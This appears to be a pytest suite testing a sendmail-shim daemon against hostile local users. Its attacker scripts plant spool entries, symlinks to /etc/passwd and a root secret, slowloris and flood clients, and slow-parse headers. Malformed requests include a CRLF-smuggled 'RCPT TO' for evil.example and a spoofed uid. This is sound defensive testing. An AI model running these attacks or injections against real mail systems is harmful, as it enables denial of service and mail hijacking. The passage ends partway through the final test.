"""Hostile local users (issue 13): on a shared server every other account is an attacker —
www-data running a compromised plugin included. Nothing one writes, creates, holds open or races
may stop, slow, steer or duplicate anyone else's mail.

Every case runs a server installation (tests/localusers.py: a service uid owning the spool and
running ``sendmail-shim -bd``, an attacker uid, a victim uid): the attacker attacks, then the victim
submits with the real console script, and the victim's message must reach the relay exactly once
(counted by Message-ID) within a generous bound, while every queue run exits 0 — the daemon's
(their stderr is the daemon's output, which must stay empty) and one ``-q`` the test runs as the
service user. Messages the attacker was told were accepted (exit 0, ``OK``) are delivered exactly
once too; those it was told were refused never are (a caller retrying after exit 75 must not make
a duplicate).

Temporary places: the queue runner and the daemon create nothing outside the spool; a caller's
TMPDIR (-odi direct mode, -bs spooling) is that caller's business and not attacked here.
"""

import json
import os
import select
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest

from sendmail_shim.envelope import Envelope
from sendmail_shim.queue import new_id
from sendmail_shim.queued import QueuedMessage, Recipient
from sendmail_shim.queue import Queue
from sendmail_shim.receiver import IDLE_TIMEOUT, MAX_USER_CONNECTIONS
from tests.faults import COUNTS
from tests.localusers import SYSTEM_PYTHON, as_user, needs_other_users, service_site, start_as_user, stop_processes_of
from tests.relay import RELAY_LOGIN, RELAY_PASSWORD, RelayServer
from tests.shim import OUTPUTS, SHIM, wait_for

pytestmark = [pytest.mark.e2e, *needs_other_users]

BOUND = 60.0  # seconds within which the victim's message must be at the relay (never a speed claim)
RUN = uuid.uuid4().hex[:8]  # Message-IDs unique to this test run
SYSEXITS = {0, *range(64, 79)}
STUCK = "stuck@example.org"  # the relay answers 451 for him: mail to him stays queued
FULL = "full@example.org"  # the same, for the full-disk site
EACCES = "EACCES"

_serial = iter(range(1_000_000))


def unique(tag: str) -> str:
    return f"{tag}-{RUN}-{next(_serial)}"


def mail(subject: str, to: str = "bob@example.org", body: bytes = b"hello\n", headers: str = "") -> bytes:
    return (f"From: someone@web.example\nTo: {to}\n{headers}Subject: {subject}\n"
            f"Message-ID: <{subject}@hostile.test>\n\n").encode() + body


def padded(subject: str, size: int, to: str = "bob@example.org") -> bytes:
    """A message of about `size` bytes."""
    line = b"x" * 75 + b"\n"
    return mail(subject, to=to, body=line * max(1, size // len(line)))


def copies(relay, subject: str) -> int:
    """How many times the relay received the message with this subject's Message-ID."""
    field = f"\r\nMessage-ID: <{subject}@hostile.test>\r\n".encode()
    return sum(field in b"\r\n" + m.data.split(b"\r\n\r\n", 1)[0] + b"\r\n" for m in list(relay.messages))


def attacked(kind: str, n: int = 1) -> None:
    COUNTS[f"hostile users: attacks tried ({kind})"] += n


# -- the site under attack ---------------------------------------------------------------------


class Hostile:
    """A `ServiceSite` with its service, attacker and victim accounts (and any more roles), the
    relay, and the daemon's output (where its queue runs report failures) read as it comes."""

    def __init__(self, site, users, relay):
        self.site, self.relay, self.users = site, relay, users
        self.service, self.attacker, self.victim, *self.others = users
        self.lines: list[str] = []
        self._reader = None
        self.attach()

    def attach(self) -> None:
        stream = self.site.daemon.stdout

        def read():
            for line in iter(stream.readline, b""):
                self.lines.append(line.decode(errors="replace"))

        self._reader = threading.Thread(target=read, name="daemon output", daemon=True)
        self._reader.start()

    def stop(self) -> None:
        """Stop the daemon and whatever the site's accounts still run (a queue run busy for
        minutes, an attacker's client), pid by pid; the daemon's output is then complete."""
        daemon = self.site.daemon
        if daemon is None:
            return
        if daemon.poll() is None:
            daemon.send_signal(signal.SIGTERM)
            with suppress(subprocess.TimeoutExpired):
                daemon.wait(timeout=10)  # it waits for its current queue run
        for user in self.users:
            stop_processes_of(user.pw_uid)
        daemon.wait()
        self._reader.join(10)
        OUTPUTS.extend(self.lines)
        self.site.stop_daemon()

    # What the queue runs said: nothing, unless one failed.

    def mark(self) -> int:
        return len(self.lines)

    def run_failures(self, mark: int) -> list[str]:
        return [line for line in self.lines[mark:] if line.strip()]

    def assert_runs_clean(self, mark: int) -> None:
        failures = self.run_failures(mark)
        assert not failures, "a queue run of the daemon failed: " + "".join(failures[-5:])

    def queue_run(self) -> subprocess.CompletedProcess:
        """``sendmail-shim -q`` as the service user."""
        return self.site.send(self.service.pw_name, "-q", stdin=b"", timeout=BOUND)

    def assert_queue_run_ok(self) -> None:
        proc = self.queue_run()
        assert proc.returncode == 0, f"-q as the service user exited {proc.returncode}: {proc.stderr.decode()}"

    def send(self, user, *args: str, stdin: bytes) -> subprocess.CompletedProcess:
        return self.site.send(user.pw_name, *args, stdin=stdin, timeout=BOUND)

    def wait_delivered(self, subjects, mark: int, bound: float = BOUND) -> None:
        """Until each subject is at the relay; fails at once when a queue run fails meanwhile."""
        subjects = list(subjects)
        deadline = time.monotonic() + bound
        while not all(copies(self.relay, s) for s in subjects):
            failures = self.run_failures(mark)
            if failures:
                raise AssertionError("a queue run of the daemon failed: " + "".join(failures[-5:]))
            if time.monotonic() > deadline:
                missing = [s for s in subjects if not copies(self.relay, s)]
                log = self.site.log_text().splitlines()[-8:]
                raise AssertionError(f"not delivered within {bound:.0f} s: {missing[:5]}; spool: {self.spool_state()}; "
                                     "log: " + "\n".join(log))
            time.sleep(0.1)

    def spool_state(self) -> dict:
        return {name: sorted(os.listdir(self.site.spool / name))[:10]
                for name in ("maildrop", "maildrop-tmp", "tmp", "queue", "corrupt")}

    def victim_delivered_once(self, tag: str, mark: int) -> str:
        """The victim submits right now; its message reaches the relay exactly once within
        BOUND, and the daemon's queue runs since `mark` and one -q as the service user are clean."""
        subject = unique(f"victim-{tag}")
        proc = self.send(self.victim, "-t", "-i", stdin=mail(subject))
        assert proc.returncode == 0, f"the victim's sendmail exited {proc.returncode}: {proc.stderr.decode()}"
        self.wait_delivered([subject], mark)
        self.assert_queue_run_ok()
        self.assert_runs_clean(mark)
        assert copies(self.relay, subject) == 1
        COUNTS["hostile users: victim messages delivered exactly once"] += 1
        return subject

    def attacker_sends_again(self, tag: str, mark: int) -> None:
        """After an attack on the socket: the attacker's own slots came back (nothing leaked in the
        daemon's count of its connections), so its next message goes through."""
        subject = unique(f"after-{tag}")
        proc = self.send(self.attacker, "-t", "-i", stdin=mail(subject))
        assert proc.returncode == 0, proc.stderr.decode()
        self.wait_delivered([subject], mark)
        self.assert_runs_clean(mark)

    @contextmanager
    def attack(self, script: str, ready: bytes, *args: str):
        """`script` (Python) run by the attacker's uid in the background, with the socket's path as
        argv[1]; yields the process once it printed `ready`, kills it on the way out if it still runs."""
        attacker = start_as_user(self.attacker.pw_name, SYSTEM_PYTHON, "-c", script, str(self.site.socket), *args)
        try:
            started, _, _ = select.select([attacker.stdout], [], [], 30)
            assert started and attacker.stdout.readline() == ready, attacker.stderr.read().decode()
            yield attacker
        finally:
            if attacker.poll() is None:
                attacker.kill()
                attacker.communicate()

    def attacker_home(self) -> Path:
        """A directory of the attacker's own, on the spool's file system."""
        home = self.site.base / f"home-{self.attacker.pw_name}"
        home.mkdir(mode=0o700, exist_ok=True)
        os.chown(home, self.attacker.pw_uid, self.attacker.pw_gid)
        return home

    def attacker_script(self, script: str, *args: str, timeout: float = 120) -> subprocess.CompletedProcess:
        """`script` (Python) run by the attacker's uid, with the socket's path as argv[1]."""
        proc = as_user(self.attacker.pw_name, SYSTEM_PYTHON, "-c", script, str(self.site.socket), *args,
                       timeout=timeout)
        assert proc.returncode == 0, proc.stderr.decode()
        return proc


@pytest.fixture(scope="module")
def hostile_relay(ca):
    """One relay for the module (implicit TLS, AUTH, 163's sender rule); STUCK and FULL get 451."""
    server = RelayServer(ca, security="tls", users={RELAY_LOGIN: RELAY_PASSWORD})
    server.start()
    server.refuse[STUCK] = "451 4.2.1 mailbox busy, try again later"
    server.refuse[FULL] = "451 4.2.1 mailbox busy, try again later"
    yield server
    server.stop()


@contextmanager
def hostile_site(relay, name: str, roles=("svc", "atk", "vic"), **overrides):
    """Account names are unique per process and role: each site's roles carry its `name`."""
    roles = tuple(f"{name}{role}" for role in roles)
    with service_site(relay, RELAY_PASSWORD, roles=roles, **overrides) as (site, users):
        hostile = Hostile(site, users, relay)
        try:
            yield hostile
        finally:
            hostile.stop()


@pytest.fixture(scope="module")
def main_site(hostile_relay):
    """Default limits but a small message size."""
    with hostile_site(hostile_relay, "m", SENDMAIL_SHIM_USER_MESSAGE_SIZE="100k") as site:
        yield site


@pytest.fixture(scope="module")
def root_only():
    """A directory only root may enter, holding files (one named ``data``, as a message's) and a
    sub-directory with files, all dated long ago; and its original contents."""
    base = Path(tempfile.mkdtemp(prefix="shim-root-only-", dir="/tmp"))
    os.chmod(base, 0o700)
    old = time.time() - 7200

    def fill():
        shutil.rmtree(base / "sub", ignore_errors=True)
        for path, content in contents().items():
            path.parent.mkdir(exist_ok=True)
            path.write_bytes(content)
            path.chmod(0o600)
        for path in (*contents(), base / "sub"):
            os.utime(path, (old, old))

    def contents() -> dict:
        return {base / "data": b"root's data file\n", base / "secret": ROOT_SECRET,
                base / "sub" / "data": b"root's nested data\n", base / "sub" / "keep": b"root's nested file\n"}

    fill()
    yield base, contents, fill
    shutil.rmtree(base, ignore_errors=True)


# shaped like a queued message's data, so that a runner reading it through a link would send it whole
ROOT_SECRET = f"Subject: root-only\r\n\r\nROOT-ONLY-SECRET-{RUN}\r\n".encode()


def assert_untouched(root_only) -> None:
    base, contents, _fill = root_only
    for path, content in contents().items():
        assert path.exists(), f"{path} (root-only) was removed"
        assert path.read_bytes() == content, f"{path} (root-only) was changed"
    assert sorted(p.name for p in base.iterdir()) == ["data", "secret", "sub"], "the root-only directory changed"


# -- 1. the file system ------------------------------------------------------------------------

FS_ATTEMPTS = r'''
import errno, json, os, socket, sys
places, own = json.loads(sys.argv[2]), sys.argv[3]
open(own, "w").close()
def attempt(kind, place):
    target = os.path.join(place, "hostile-" + kind)
    try:
        if kind == "file":
            os.close(os.open(target, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666))
        elif kind == "directory":
            os.mkdir(target)
        elif kind == "fifo":
            os.mkfifo(target)
        elif kind == "socket":
            s = socket.socket(socket.AF_UNIX)
            try:
                s.bind(target)
            finally:
                s.close()
        elif kind == "symlink":
            os.symlink("/etc/passwd", target)
        elif kind == "hardlink":
            os.link(own, target)
        elif kind == "rename-in":
            os.rename(own, target)
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno))
    return "created"
def other(op, path):
    try:
        if op == "unlink":
            os.unlink(path)
        elif op == "rename-away":
            os.rename(path, path + ".moved")
        elif op == "rmdir":
            os.rmdir(path)
        elif op == "append":
            open(path, "ab").close()
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno))
    return "done"
kinds = ["file", "directory", "fifo", "socket", "symlink", "hardlink", "rename-in"]
results = {f"{kind} in {place}": attempt(kind, place) for place in places["dirs"] for kind in kinds}
for op, path in places["ops"]:
    results[f"{op} {path}"] = other(op, path)
print(json.dumps(results))
'''


def test_the_attacker_can_create_nothing_in_the_spool_or_next_to_the_socket(main_site):
    h = main_site
    mark = h.mark()
    spool, run = h.site.spool, h.site.socket.parent
    own = h.attacker_home()
    dirs = [str(spool), *(str(spool / d) for d in ("tmp", "queue", "failed", "corrupt", "maildrop", "maildrop-tmp")),
            str(run)]
    ops = [("unlink", str(h.site.socket)), ("rename-away", str(h.site.socket)),
           *(("rename-away", str(spool / d)) for d in ("tmp", "queue", "maildrop", "corrupt")),
           ("rmdir", str(spool / "maildrop")), ("append", str(h.site.log_file)), ("append", str(h.site.config_file))]
    proc = h.attacker_script(FS_ATTEMPTS, json.dumps({"dirs": dirs, "ops": ops}), str(own / "mine"))
    results = json.loads(proc.stdout)
    attacked("file system", len(results))
    assert {what: errno for what, errno in results.items() if errno != EACCES} == {}
    assert h.site.socket.is_socket()
    h.victim_delivered_once("fs-attempts", mark)


PLANT_KINDS = ["directory", "fifo", "socket", "symlink", "hardlink"]
PLANT_DIRS = ["maildrop", "maildrop-tmp", "tmp"]


@pytest.fixture(scope="module")
def attacker_file(main_site):
    """A file of the attacker's that looks like a finished maildrop file (message and trailer):
    hard-linked into the spool, it must never be delivered (the attacker could change it after
    the pickup's checks)."""
    h = main_site
    subject = unique("planted-hardlink")
    message = mail(subject).replace(b"\n", b"\r\n")
    trailer = {"recipients": ["bob@example.org"], "extract": False, "version": 1, "size": len(message),
               "uid": h.victim.pw_uid}
    path = h.attacker_home() / "drop"
    path.write_bytes(message + json.dumps(trailer).encode() + b"\n")
    os.chown(path, h.attacker.pw_uid, h.attacker.pw_gid)
    path.chmod(0o644)
    return path, subject


def _planted_name(kind: str, directory: str) -> str:
    if kind == "directory":
        return "0"
    msg_id = new_id(time.time() - 7200)
    return msg_id if directory == "tmp" else f"{msg_id}.{os.urandom(8).hex()}"


@pytest.mark.parametrize("directory", PLANT_DIRS)
@pytest.mark.parametrize("kind", PLANT_KINDS)
def test_entries_planted_in_the_spool_stop_nobody(main_site, root_only, attacker_file, kind, directory):
    """As if an old world-writable (3733) maildrop had let them in: owned by the attacker, dated
    two hours ago (old enough for every clean-up), in the places the runner reads and cleans."""
    h = main_site
    mark = h.mark()
    name = _planted_name(kind, directory)
    path = h.site.spool / directory / name
    link_source, planted_subject = attacker_file
    if kind == "directory":
        path.mkdir()
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "socket":
        with socket.socket(socket.AF_UNIX) as sock:
            sock.bind(str(path))
    elif kind == "symlink":
        path.symlink_to(root_only[0] / "secret")
    else:
        os.link(link_source, path)
    os.lchown(path, h.attacker.pw_uid, h.attacker.pw_gid)
    old = time.time() - 7200
    os.utime(path, (old, old), follow_symlinks=False)
    attacked("planted entries")
    try:
        h.victim_delivered_once(f"planted-{kind}-{directory}", mark)
        assert_untouched(root_only)
        assert link_source.read_bytes().endswith(b"}\n")  # the attacker's file is still its own
        assert copies(h.relay, planted_subject) == 0, "a hard link into maildrop/ was delivered"
    finally:
        for where in ("maildrop", "maildrop-tmp", "tmp", "corrupt"):
            leftover = h.site.spool / where / name
            if leftover.is_dir() and not leftover.is_symlink():
                shutil.rmtree(leftover, ignore_errors=True)
            elif os.path.lexists(leftover):
                leftover.unlink()


# -- 2. the submission socket ------------------------------------------------------------------

CLIENT = r'''
import json, socket, sys, threading, time
PATH = sys.argv[1]

def connect():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(60)
    s.connect(PATH)
    return s

def reply(s):
    """The daemon's next line, '<EOF>' when it closed without one, 'error <name>' on a failure."""
    data = b""
    while not data.endswith(b"\n"):
        try:
            chunk = s.recv(4096)
        except OSError as exc:
            return (data.decode(errors="replace") + " error " + type(exc).__name__).strip()
        if not chunk:
            return data.decode(errors="replace").strip() + "<EOF>"
        data += chunk
    return data.decode(errors="replace").strip()

def request(**fields):
    return json.dumps(fields).encode() + b"\n"

def submit(req, message):
    s = connect()
    try:
        s.sendall(req)
        go = reply(s)
        if go != "GO":
            return go
        s.sendall(message)
        s.shutdown(socket.SHUT_WR)
        return reply(s)
    except OSError as exc:
        return "error " + type(exc).__name__
    finally:
        s.close()
'''

SLOWLORIS = CLIENT + r'''
trickling, silent, bound = int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
conns = [connect() for _ in range(trickling + silent)]  # the trickling ones first: they get slots
start = time.monotonic()
results = [None] * len(conns)

def watch(i, s):
    s.settimeout(bound + 30)
    answer = reply(s)
    results[i] = [answer, round(time.monotonic() - start, 1)]

for i, s in enumerate(conns):
    threading.Thread(target=watch, args=(i, s), daemon=True).start()
print("ready", flush=True)
slow = b" " * 100000 + request(recipients=["bob@example.org"])  # leading blanks: valid, never finished
k = 0
while time.monotonic() < start + bound:
    for s in conns[:trickling]:
        try:
            s.send(slow[k:k + 1])
        except OSError:
            pass
    k += 1
    if all(r is not None for r in results[trickling:]):
        break  # every silent connection has its answer
    time.sleep(1)
print(json.dumps({"trickling": results[:trickling], "silent": results[trickling:]}), flush=True)
'''


def test_slowloris_holds_only_the_attackers_own_slots(main_site):
    h = main_site
    mark = h.mark()
    trickling, silent = 3, 12
    bound = IDLE_TIMEOUT + 20
    with h.attack(SLOWLORIS, b"ready\n", str(trickling), str(silent), str(bound)) as attacker:
        attacked("socket", trickling + silent)
        # while every slot of the attacker is taken, by silent and by one-byte-a-second requests
        h.victim_delivered_once("slowloris", mark)
        out, err = attacker.communicate(timeout=bound + 30)
    OUTPUTS.append(err.decode())
    results = json.loads(out.decode().splitlines()[-1])
    answers = results["trickling"] + results["silent"]
    refused = [r for r in answers if r and r[0].startswith("ERR 75 ")]
    assert len(refused) == trickling + silent - MAX_USER_CONNECTIONS, answers
    for answer in results["silent"]:  # admitted and silent: dropped after the idle timeout
        assert answer is not None and (answer[0].startswith("ERR 75 ") or answer[0] == "<EOF>"), answer
        assert answer[1] <= IDLE_TIMEOUT + 15, answer
    for answer in results["trickling"]:  # still being served (slowly) or refused at once
        assert answer is None or answer[0].startswith("ERR 75 "), answer
    h.attacker_sends_again("slowloris", mark)


FLOOD = CLIENT + r'''
seconds, threads = float(sys.argv[2]), int(sys.argv[3])
counts = {"connections": 0, "refused": 0}

def flood(n):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            s = connect()
        except OSError:
            counts["refused"] += 1
            time.sleep(0.01)
            continue
        counts["connections"] += 1
        try:
            if n % 2:
                s.sendall(b"{" * 1000)  # half a request, then gone without reading
        except OSError:
            pass
        s.close()

pool = [threading.Thread(target=flood, args=(n,)) for n in range(threads)]
for t in pool:
    t.start()
print("started", flush=True)
for t in pool:
    t.join()
print(json.dumps(counts), flush=True)
'''


def test_a_connection_flood_stops_nobody(main_site):
    """Connections opened and dropped as fast as the attacker can, from many threads: the
    daemon's accept loop and its per-user count must keep serving the victim."""
    h = main_site
    mark = h.mark()
    with h.attack(FLOOD, b"started\n", "8", "16") as attacker:
        time.sleep(1)
        h.victim_delivered_once("connection-flood", mark)
        out, err = attacker.communicate(timeout=BOUND)
    OUTPUTS.append(err.decode())
    counts = json.loads(out.decode().splitlines()[-1])
    attacked("socket")
    assert counts["connections"] > 100, counts
    h.attacker_sends_again("flood", mark)  # its slots all came back once it stopped


MALFORMED = CLIENT + r'''
cases = {
    "not JSON": b"hello daemon\n",
    "empty line": b"\n",
    "JSON array": b'["bob@example.org"]\n',
    "JSON number": b"42\n",
    "JSON null": b"null\n",
    "not UTF-8": b'\xff\xfe{\x00"\x00\n',
    "over 16 KiB, no newline": b"{" + b" " * 20000,
    "over 16 KiB line": request(recipients=["bob@example.org"], full_name="x" * 17000),
    "nested 100k deep": b"[" * 100000 + b"\n",
    "nested 16k deep (within the size)": b"[" * 16000 + b"\n",
    "nested objects": b'{"a":' * 3000 + b"\n",
    "unknown key": request(recipients=["bob@example.org"], bcc=["spy@evil.example"]),
    "uid spoofed": request(recipients=["bob@example.org"], uid=0),
    "trailer keys": request(recipients=["bob@example.org"], version=1, size=5),
    "1001 recipients": request(recipients=["b@example.org"] * 1001),
    "recipient too long": request(recipients=["b" * 400 + "@example.org"]),
    "recipient with CRLF": request(recipients=["bob@example.org\r\nRCPT TO:<spy@evil.example>"]),
    "recipients a string": request(recipients="bob@example.org"),
    "recipients of objects": request(recipients=[{"a": 1}]),
    "no recipients": request(recipients=[], extract=False),
    "extract not a boolean": request(recipients=["bob@example.org"], extract="yes"),
    "sender an object": request(recipients=["bob@example.org"], requested_sender={"x": 1}),
    "full name a number": request(recipients=["bob@example.org"], full_name=12),
    "DSN notify a list": request(recipients=["bob@example.org"], dsn_notify=["never"]),
    "DSN envid with CRLF": request(recipients=["bob@example.org"], envid="a\r\nb"),
    "NaN": b'{"recipients": ["bob@example.org"], "dsn_ret": NaN}\n',
    "5000-digit number": b'{"recipients": ["bob@example.org"], "extract": ' + b"1" * 5000 + b"}\n",
    "duplicate keys": b'{"recipients": ["bob@example.org"], "recipients": 7}\n',
}
results = {}
for name, payload in cases.items():
    s = connect()
    s.settimeout(30)
    try:
        s.sendall(payload)
    except OSError as exc:
        pass
    results[name] = reply(s)
    s.close()
print(json.dumps(results))
'''


def test_malformed_requests_are_refused_and_change_nothing(main_site):
    h = main_site
    mark = h.mark()
    before = len(os.listdir(h.site.spool / "corrupt"))
    results = json.loads(h.attacker_script(MALFORMED).stdout)
    attacked("socket", len(results))
    wrong = {name: answer for name, answer in results.items()
             if not (answer.startswith("ERR ") and answer.split(" ")[1] in {str(c) for c in range(64, 79)})}
    assert wrong == {}
    assert os.listdir(h.site.spool / "maildrop-tmp") == [] and os.listdir(h.site.spool / "maildrop") == []
    assert len(os.listdir(h.site.spool / "corrupt")) == before
    h.victim_delivered_once("malformed", mark)


OVERSIZED = CLIENT + r'''
subject = sys.argv[2]
message = f"To: bob@example.org\r\nSubject: {subject}\r\nMessage-ID: <{subject}@hostile.test>\r\n\r\n".encode()
message += (b"x" * 75 + b"\r\n") * 3000  # 231 KB, over the 100k the site allows
s = connect()
s.settimeout(30)
s.sendall(request(recipients=["bob@example.org"]))
go = reply(s)
s.sendall(message)  # and never an end of data: the refusal must not wait for it
print(json.dumps([go, reply(s)]))
'''


def test_a_message_over_the_users_size_limit_is_refused(main_site):
    h = main_site
    mark = h.mark()
    subject = unique("too-big")
    proc = h.send(h.attacker, "-t", "-i", stdin=padded(subject, 200_000))
    assert proc.returncode == 65 and "larger than" in proc.stderr.decode(), proc.stderr.decode()
    raw_subject = unique("too-big-raw")
    go, answer = json.loads(h.attacker_script(OVERSIZED, raw_subject).stdout)
    assert go == "GO" and answer.startswith("ERR 65 "), answer
    attacked("socket", 2)
    h.victim_delivered_once("too-big", mark)
    assert copies(h.relay, subject) == copies(h.relay, raw_subject) == 0
    assert os.listdir(h.site.spool / "maildrop-tmp") == []


PARALLEL = CLIENT + r'''
from concurrent.futures import ThreadPoolExecutor
subjects = json.loads(sys.argv[2])

def one(subject):
    message = (f"To: bob@example.org\r\nSubject: {subject}\r\nMessage-ID: <{subject}@hostile.test>\r\n\r\n"
               "hello\r\n").encode()
    return submit(request(recipients=["bob@example.org"]), message)

with ThreadPoolExecutor(len(subjects)) as pool:
    print(json.dumps(dict(zip(subjects, pool.map(one, subjects)))))
'''


def test_fifty_parallel_connections(main_site):
    h = main_site
    mark = h.mark()
    subjects = [unique("parallel") for _ in range(50)]
    results = json.loads(h.attacker_script(PARALLEL, json.dumps(subjects)).stdout)
    attacked("socket", len(subjects))
    accepted = [s for s, answer in results.items() if answer.startswith("OK ")]
    refused = [s for s, answer in results.items() if s not in accepted]
    assert accepted, results
    assert all(results[s].startswith("ERR 75 ") for s in refused), results
    h.victim_delivered_once("parallel", mark)
    h.wait_delivered(accepted, mark)
    h.assert_queue_run_ok()
    assert {s: copies(h.relay, s) for s in subjects} == {s: 1 if s in accepted else 0 for s in subjects}


# -- 3. headers built to be slow to parse ------------------------------------------------------

SLOW_FIELD = 58_000  # characters of one field: a parser quadratic in them takes seconds to minutes

SLOW_HEADERS = {  # To: values
    "quotes": '"' * SLOW_FIELD,
    "backslashes": "\\" * SLOW_FIELD,
    "dots": "a" + "." * SLOW_FIELD + "@example.org",
    "a-space pairs": "a " * (SLOW_FIELD // 2) + "<b@example.org>",
    "commas": "," * SLOW_FIELD + "b@example.org",
    "nested comments": "(a " * (SLOW_FIELD // 4) + ")" * (SLOW_FIELD // 4) + " b@example.org",
    "quoted pairs": '"' + '\\"' * (SLOW_FIELD // 2) + '"@example.org',
}


@pytest.fixture
def header_site(hostile_relay):
    """Its own site: a queue run still parsing when the test ends is stopped with the site."""
    with hostile_site(hostile_relay, "h") as site:
        yield site


def test_headers_built_to_be_slow_to_parse_delay_nobody(header_site):
    h = header_site
    mark = h.mark()
    messages = [mail(unique(f"slow-{shape}"), to=value) for shape, value in SLOW_HEADERS.items()]
    commas = SLOW_HEADERS["commas"]  # and the same in every address field -t reads
    messages.append(mail(unique("slow-fields"), to=commas, headers=f"Cc: {commas}\nBcc: {commas}\n"))
    for message in messages:
        proc = h.send(h.attacker, "-t", "-i", stdin=message)
        assert proc.returncode in SYSEXITS - {70}, proc.stderr.decode()
    attacked("headers", len(messages))
    h.victim_delivered_once("slow-headers", mark)


# -- 4. submission racing pickup ---------------------------------------------------------------


def test_parallel_submissions_race_the_pickup_and_each_is_delivered_once(main_site):
    h = main_site
    mark = h.mark()
    attackers = [unique("race-attacker") for _ in range(30)]
    victims = [unique("race-victim") for _ in range(3)]

    def attack(subject):
        return subject, h.send(h.attacker, "-t", "-i", stdin=mail(subject)).returncode

    with ThreadPoolExecutor(len(attackers)) as pool:
        futures = [pool.submit(attack, s) for s in attackers]
        victim_codes = {s: h.send(h.victim, "-t", "-i", stdin=mail(s)).returncode for s in victims}
        codes = dict(f.result() for f in futures)
    attacked("races", len(attackers))
    assert victim_codes == {s: 0 for s in victims}
    assert set(codes.values()) <= {0, 75}, codes
    accepted = [s for s, code in codes.items() if code == 0]
    h.wait_delivered(victims + accepted, mark)
    h.assert_queue_run_ok()
    h.assert_runs_clean(mark)
    assert {s: copies(h.relay, s) for s in victims + attackers} == \
        {s: 1 if s in victims or codes[s] == 0 else 0 for s in victims + attackers}
    COUNTS["hostile users: victim messages delivered exactly once"] += len(victims)


# -- limits: rate and queue share --------------------------------------------------------------


@pytest.fixture
def rate_site(hostile_relay):
    with hostile_site(hostile_relay, "r", SENDMAIL_SHIM_USER_RATE="5") as site:
        yield site


def test_a_rate_flood_is_refused_for_the_flooder_only(rate_site):
    h = rate_site
    mark = h.mark()
    subjects = [unique("rate") for _ in range(6)]
    procs = [h.send(h.attacker, "-t", "-i", stdin=mail(s)) for s in subjects]
    attacked("socket", len(subjects))
    assert [p.returncode for p in procs] == [0] * 5 + [75], procs[-1].stderr.decode()
    assert "messages in a minute" in procs[-1].stderr.decode()
    h.victim_delivered_once("rate", mark)
    h.wait_delivered(subjects[:5], mark)
    assert [copies(h.relay, s) for s in subjects] == [1] * 5 + [0]


QUOTA = 40 << 10
QUOTA_MESSAGE = 12 << 10


@pytest.fixture(scope="module")
def quota_site(hostile_relay):
    with hostile_site(hostile_relay, "q", roles=("svc", "atk", "vic", "oth"),
                      SENDMAIL_SHIM_USER_QUEUE_SIZE="40k") as site:
        yield site


def test_a_queue_share_flood_is_refused_for_the_flooder_only(quota_site):
    """The attacker's mail to a recipient the relay defers stays queued; once its share is full
    (also after the pickup has moved it from maildrop/ into queue/), it is refused with 75."""
    h = quota_site
    mark = h.mark()
    first = [unique("quota-flood") for _ in range(3)]
    for subject in first:
        proc = h.send(h.attacker, "-i", STUCK, stdin=padded(subject, QUOTA_MESSAGE, to=STUCK))
        assert proc.returncode == 0, proc.stderr.decode()
    queue = Queue(str(h.site.spool))
    wait_for(lambda: not os.listdir(queue.maildrop) and len(queue.ids()) >= 3, BOUND, "the pickup")
    more = [unique("quota-flood") for _ in range(3)]
    codes = [h.send(h.attacker, "-i", STUCK, stdin=padded(s, QUOTA_MESSAGE, to=STUCK)).returncode for s in more]
    attacked("socket", len(first) + len(more))
    assert codes == [75] * len(more), "the attacker's share of the queue was not enforced"
    h.victim_delivered_once("quota-flood", mark)


def only_stuck_mail_queued(h) -> bool:
    queue = Queue(str(h.site.spool))
    try:
        messages = [queue.load(msg_id) for msg_id in queue.ids()]
    except Exception:  # being written or removed right now
        return False
    return all(m is None or m.envelope.recipients == [STUCK] for m in messages)


def test_delivered_mail_does_not_count_against_a_users_queue_share(quota_site):
    """A user sending more than its share in all, each message delivered before the next: none
    is waiting in the queue, so none may be refused."""
    h = quota_site
    mark = h.mark()
    (other,) = h.others
    for n in range(2 * QUOTA // QUOTA_MESSAGE):
        subject = unique("quota-delivered")
        proc = h.send(other, "-i", "bob@example.org", stdin=padded(subject, QUOTA_MESSAGE))
        assert proc.returncode == 0, f"message {n + 1}: {proc.stderr.decode()}"
        h.wait_delivered([subject], mark)
        wait_for(lambda: only_stuck_mail_queued(h), BOUND, "the delivered message leaving the queue")
    h.assert_runs_clean(mark)


# -- 5. a full disk ----------------------------------------------------------------------------


@pytest.fixture
def disk_site(hostile_relay):
    """The spool on a 2 MiB tmpfs, and a share of the queue per user larger than that disk (as the
    default 1G is on a small /var): the attacker can fill it."""
    if not shutil.which("mount"):
        pytest.skip("needs mount")
    with hostile_site(hostile_relay, "d", SENDMAIL_SHIM_USER_QUEUE_SIZE="4M") as h:
        h.stop()
        spool = h.site.spool
        shutil.rmtree(spool)
        spool.mkdir()
        options = f"size=2m,mode=0711,uid={h.service.pw_uid},gid={h.service.pw_gid}"
        if subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(spool)],
                          capture_output=True).returncode != 0:
            pytest.skip("cannot mount a tmpfs here")
        try:
            Queue(str(spool)).ensure()  # as root: the sub-directories, owned by the service user
            h.site.start_daemon()
            h.attach()
            yield h
        finally:
            h.stop()
            subprocess.run(["umount", "-l", str(spool)], check=True)


def test_a_full_disk_loses_and_duplicates_nothing(disk_site, hostile_relay):
    h = disk_site
    mark = h.mark()
    accepted, codes = [], []
    while len(codes) < 30 and codes[-3:] != [73] * 3:  # until the disk is full
        subject = unique("fill")
        proc = h.send(h.attacker, "-i", FULL, stdin=padded(subject, 128 << 10, to=FULL))
        assert proc.returncode in (0, 73, 75), proc.stderr.decode()
        codes.append(proc.returncode)
        if proc.returncode == 0:
            accepted.append(subject)
    assert 73 in codes, f"the disk never filled: {codes}"
    huge = unique("fill-huge")
    proc = h.send(h.attacker, "-i", FULL, stdin=padded(huge, 3 << 20, to=FULL))
    assert proc.returncode in (73, 75), proc.stderr.decode()
    attacked("full disk", len(codes) + 1)

    victim = unique("victim-full-disk")
    proc = h.send(h.victim, "-t", "-i", stdin=mail(victim))
    assert proc.returncode in (0, 73, 75), proc.stderr.decode()
